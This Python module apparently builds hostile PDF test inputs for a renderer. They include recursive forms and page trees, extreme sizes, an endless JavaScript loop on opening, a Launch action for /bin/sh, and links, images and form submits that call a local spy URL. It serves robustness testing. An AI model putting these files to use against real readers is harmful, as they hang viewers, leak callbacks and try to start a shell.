"""PDF files made to do harm, each by what it is."""

from __future__ import annotations

import random

SPY = b"http://127.0.0.1:{port}/"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>"


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    """A file of these objects, numbered from 1, with a table of where they are."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + table + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF" % len(data)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def page(content: bytes, *more: bytes, font: bytes = FONT, resources: bytes = b"", entries: bytes = b"") -> bytes:
    """One page that draws `content`; `more` are the objects from 5 on."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/Resources<</Font<</F %s>>%s>>%s>>"
        % (font, resources, entries),
        stream(content),
        *more,
    )


WORDS = b"BT /F 12 Tf 50 300 Td (The mayor said nothing.) Tj ET"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
HOSTILE = {
    "pages that are their own parents": pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"),
    "two nodes of pages that hold one another": pdf(
        CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"
    ),
    "a billion pages": pdf(CATALOG, b"<</Type/Pages/Kids[]/Count 1000000000>>"),
    "fewer than no pages": pdf(CATALOG, b"<</Type/Pages/Kids[]/Count -5>>"),
    "forms that double": page(
        b"/X Do " + WORDS,
        *(
            stream(
                b"/X Do /X Do",
                b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (6 + depth),
            )
            for depth in range(12)
        ),
        resources=b"/XObject<</X 5 0 R>>",
    ),
    "brackets without end": page(b"[" * 50_000 + WORDS),
    "states without end": page(b"q " * 100_000 + WORDS),
    "a page of no size": page(WORDS, entries=b"/CropBox[0 0 0 0]"),
    "type of no size": page(b"BT /F 0 Tf 0 0 0 0 0 0 Tm (Nothing) Tj ET " + WORDS),
    "type of enormous size": page(b"BT /F 99999999 Tf 1e30 0 0 1e30 0 0 Tm (Huge) Tj ET " + WORDS),
    "one place for many words": page(b"BT /F 12 Tf 50 300 Td " + b"(mayor ) Tj 0 0 Td " * 20_000 + b"ET"),
    "a table of places that points to itself": pdf(CATALOG, b"null", trailer=b"<</Root 1 0 R/Prev 9>>"),
    "a script that runs on opening": pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(while(true){})>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R/Resources<</Font<</F %s>>>>>>" % FONT,
        stream(WORDS),
    ),
    "everything that lies elsewhere": page(
        b"/X Do " + WORDS,
        b"<</Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Length 0"
        b"/F<</FS/URL/F(" + SPY + b"a.png)>>>>stream\n\nendstream",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/URI/URI(" + SPY + b"b)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/Launch/F(/bin/sh)>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/GoToR/F<</FS/URL/F(" + SPY + b"c.pdf)>>/D[0/Fit]>>>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/URI/URI(javascript:said)>>>>",
        resources=b"/XObject<</X 5 0 R>>",
        entries=b"/Annots[6 0 R 7 0 R 8 0 R 9 0 R]/AA<</O<</S/SubmitForm/F(" + SPY + b"d)>>>>",
    ),
    "nothing but its mark": b"%PDF-",
    "a mark and noise": b"%PDF-1.4\n" + random.Random(3).randbytes(20_000),
}


ENDLESS = page(
    b"/X Do " + WORDS,
    stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"),
    resources=b"/XObject<</X 5 0 R>>",
)
"""A form that draws itself twice: PDFium follows it for longer than anybody waits."""
